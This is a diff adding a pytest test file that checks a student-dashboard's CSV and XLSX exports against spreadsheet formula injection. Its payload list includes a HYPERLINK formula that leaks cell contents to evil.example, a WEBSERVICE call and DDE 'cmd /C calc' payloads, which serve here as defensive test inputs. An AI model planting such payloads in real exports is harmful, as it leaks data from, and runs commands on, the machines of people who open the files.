@@ -1,0 +1,109 @@
+"""Exports are safe to open in Excel (SPEC section 7) and say exactly what they should."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import pytest
+from python_calamine import CalamineWorkbook
+
+from dashboard.exports import csv_bytes, safe_text, xlsx_bytes
+from dashboard.sql import connect
+from dashboard.thresholds import Thresholds
+from tests.conftest import load_rows
+
+PAYLOADS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=WEBSERVICE(\"http://evil.example\")",
+    "-1+cmd|' /C calc'!A0",
+    '=cmd|"/C calc"!A0,"quoted, with comma"',
+    "=1+1\n=2+2",
+    "@",
+    "-",
+]
+NOT_FORMULAS = ["plain", "José", "1-2", "a=b", " =leading space", "'already quoted"]
+NUMBERS = ["-5", "+3", "-1.5", "42"]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_safe_text_neutralises_formula_starts(payload):
+    assert safe_text(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("text", NOT_FORMULAS + NUMBERS)
+def test_safe_text_leaves_other_text_and_plain_numbers(text):
+    assert safe_text(text) == text
+
+
+def test_sql_macro_and_python_rule_agree():
+    con = connect()
+    for text in PAYLOADS + NOT_FORMULAS + NUMBERS:
+        [(safe,)] = con.execute("select excel_safe($text)", {"text": text}).fetchall()
+        assert safe == safe_text(text), text
+
+
+@pytest.fixture(scope="module")
+def payload_export():
+    rows = [
+        {"student_id": payload, "name": payload, "step2ck_score": "240", "Notes": payload,
+         payload: "header payload"}
+        for payload in PAYLOADS
+    ]
+    # Every row shares the union of columns; only the first row's header payload is used.
+    cohort = load_rows(rows)
+    return cohort.export(cohort.flagged(Thresholds()), Thresholds())
+
+
+def test_csv_export_neutralises_every_text_cell_and_header(payload_export):
+    text = csv_bytes(payload_export).decode("utf-8-sig")
+    records = list(csv.reader(io.StringIO(text, newline="")))
+    header, body = records[0], records[1:]
+    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in header)
+    for record, payload in zip(body, PAYLOADS, strict=True):
+        row = dict(zip(header, record, strict=True))
+        assert row["Notes"] == "'" + payload
+        # Ids and names are trimmed on import; what remains is still neutralised.
+        assert row["student_id"] == row["name"] == "'" + payload.strip()
+        assert row["step2ck_score"] == "240"
+
+
+def test_xlsx_export_has_no_formula_and_keeps_numbers(payload_export):
+    data = xlsx_bytes(payload_export, Thresholds())
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name)
+    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Students") \
+        .to_python()
+    header = rows[0]
+    for record, payload in zip(rows[1:], PAYLOADS, strict=True):
+        row = dict(zip(header, record, strict=True))
+        assert row["Notes"] == "'" + payload
+        assert row["student_id"] == "'" + payload.strip()
+        assert row["step2ck_score"] == 240.0 and isinstance(row["step2ck_score"], float)
+
+
+def test_exact_csv_export_of_one_student():
+    cohort = load_rows([{
+        "student_id": "S1", "name": "Zoë", "stage": "M4", "step1_result": "pass",
+        "step2ck_score": "241", "us_plastics_lors": "2", "surgery_lors": "1",
+        "publications": "1", "presentations": "0", "us_plastics_subis": "1",
+        "parallel_plan": "yes", "Notes": "-2",
+    }])
+    exported = cohort.export(cohort.flagged(Thresholds()), Thresholds())
+    selected = exported.select("student_id, name, risk_level, band, strategy, flags, unknown, "
+                               "step2ck_score, parallel_plan, \"row\", Notes")
+    assert csv_bytes(selected).decode("utf-8") == (
+        '\ufeff"student_id","name","risk_level","band","strategy","flags","unknown",'
+        '"step2ck_score","parallel_plan","row","Notes"\n'
+        '"S1","Zoë","moderate","borderline","targeted_integrated","STEP2_BELOW_TARGET",'
+        '"",241,true,2,"-2"\n'
+    )
